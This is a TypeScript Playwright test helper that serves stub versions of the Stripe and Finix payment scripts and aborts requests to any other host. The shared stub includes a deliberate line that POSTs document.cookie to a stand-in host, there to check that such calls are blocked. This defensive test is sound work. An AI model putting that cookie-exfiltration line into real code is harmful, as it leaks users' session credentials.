import type { BrowserContext } from '@playwright/test';

/** A field in a vendor's frame: what is typed there goes to the vendor's script only. */
const fieldPage = `<!doctype html><html lang="en"><title>Field</title><body>
<input><script>
const [label, kind] = location.hash.slice(1).split('|').map(decodeURIComponent);
const field = document.querySelector('input');
field.setAttribute('aria-label', label);
field.oninput = () => parent.postMessage({ kind, typed: field.value }, '*');
</script>`;

/** What both stubs need. A vendor's script that wants to tell another host what it sees must fail. */
const shared = `
fetch('https://elsewhere.test/', { method: 'POST', body: document.cookie }).catch(() => {});
const typed = {};
addEventListener('message', ({ origin, data }) => {
  if (origin === vendor && data?.kind) typed[data.kind] = data.typed;
});
function mount(place, title, label, kind, ready) {
  const frame = document.createElement('iframe');
  frame.title = title;
  frame.onload = ready;
  frame.src = vendor + '/field.html#' + encodeURIComponent(label) + '|' + kind;
  frame.height = 40;
  place.append(frame);
}`;

/** Stripe’s script, as far as our page uses it. Before its fields are ready it makes no token. */
const stripeScript = `{
const vendor = 'https://js.stripe.com';
${shared}
const tokens = { 4242424242424242: 'tok_visa', 4000000000000002: 'tok_chargeDeclined' };
const loaded = new Set();
window.Stripe = (key, { locale }) => ({
  elements: () => ({
    create(kind) {
      const listeners = {};
      const ready = () => {
        loaded.add(kind);
        listeners.ready?.();
      };
      return {
        mount: (selector) => mount(document.querySelector(selector), kind, kind + ' ' + locale + ' ' + key, kind, ready),
        on: (event, listener) => (listeners[event] = listener),
        focus() {},
      };
    },
  }),
  async createToken() {
    if (loaded.size < 3) throw new Error('IntegrationError: make sure the Element is still mounted');
    for (const [kind, code] of [['cardNumber', 'number'], ['cardExpiry', 'expiry'], ['cardCvc', 'cvc']])
      if (!typed[kind]) return { error: { type: 'validation_error', code: 'incomplete_' + code } };
    return { token: { id: tokens[typed.cardNumber] } };
  },
});
}`;

/** Finix’s script, as far as our page uses it. */
const finixScript = `{
const vendor = 'https://js.finix.com';
${shared}
window.Finix = {
  PaymentForm(id, environment, application, { labels, onLoad }) {
    let isLoaded = false;
    const ready = () => {
      isLoaded = true;
      onLoad?.();
    };
    mount(document.getElementById(id), environment + ' ' + application, labels.number, 'number', ready);
    return {
      // A form that is not there yet answers nothing.
      submit: (done) =>
        isLoaded &&
        setTimeout(() => (typed.number ? done(null, { data: { id: 'TKeD6uad8xZc52Rqg1VhvSBw' } }) : done(new Error('invalid'), null))),
    };
  },
};
}`;

/** Answers for the two vendors' hosts, and for nobody else; returns the other hosts that were asked. */
export async function playVendorScripts(context: BrowserContext): Promise<string[]> {
  const others: string[] = [];
  await context.route(
    ({ hostname }) => hostname !== 'localhost',
    (route) => {
      const { hostname, pathname } = new URL(route.request().url());
      const script = { 'js.stripe.com': stripeScript, 'js.finix.com': finixScript }[hostname];
      if (script === undefined) {
        others.push(hostname);
        return route.abort();
      }
      if (pathname.endsWith('.js')) return route.fulfill({ contentType: 'text/javascript', body: script });
      return route.fulfill({ contentType: 'text/html', body: fieldPage });
    },
  );
  return others;
}
